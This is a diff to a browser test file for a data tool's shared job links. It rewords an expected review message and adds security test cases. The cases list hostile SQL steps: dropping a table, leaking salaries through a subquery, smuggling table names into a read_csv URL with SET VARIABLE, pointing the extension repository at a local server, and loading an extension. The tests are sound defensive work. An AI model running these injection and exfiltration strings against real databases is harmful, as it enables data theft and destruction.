@@ -165,7 +165,7 @@ test('a job link whose sources name a Workspace table, opfs://private, a crawled
   await expect(page.getByTestId('shared-job-title')).toContainText('innocent');
   await expect(page.getByTestId('run-shared')).toBeDisabled();
   // The review says what each source names, that it is not read, and that the link declares no columns.
-  await expect(slot(page, 's_table')).toContainText('The link names a table open in the Workspace named salaries. That is not read');
+  await expect(slot(page, 's_table')).toContainText('The link names a Workspace table called salaries. That is not read');
   await expect(slot(page, 's_opfs')).toContainText('the workspace folder opfs://private');
   await expect(slot(page, 's_cat')).toContainText('the catalog table shop.orders');
   await expect(slot(page, 's_table')).toContainText('The link does not say which columns it expects');
@@ -229,7 +229,9 @@ test('SQL steps cannot drop, read or send what the user did not hand over, nor l
   const attacks = [
     ['drop', 'SELECT * FROM input; DROP TABLE salaries'],
     ['subquery', 'SELECT *, (SELECT string_agg(name, \',\') FROM salaries) AS leak FROM input'],
-    ['exfil', `SELECT * FROM input, read_csv('http://127.0.0.1:${server.port}/x.csv?d=' || (SELECT string_agg(v, ',') FROM input))`],
+    ['fetch', `SELECT * FROM input, read_csv('http://127.0.0.1:${server.port}/x.csv')`],
+    // Table functions take no subquery, but a variable is folded in: the engine's table names (and any data) in a URL.
+    ['exfil', `SELECT * FROM input; SET VARIABLE d = (SELECT string_agg(table_name, ',') FROM duckdb_tables()); SELECT * FROM read_csv('http://127.0.0.1:${server.port}/x.csv?d=' || getvariable('d'))`],
     ['setting', `SELECT * FROM input; SET custom_extension_repository='http://127.0.0.1:${server.port}/ext'`],
     ['load', 'SELECT * FROM input; LOAD json'],
   ] as const;
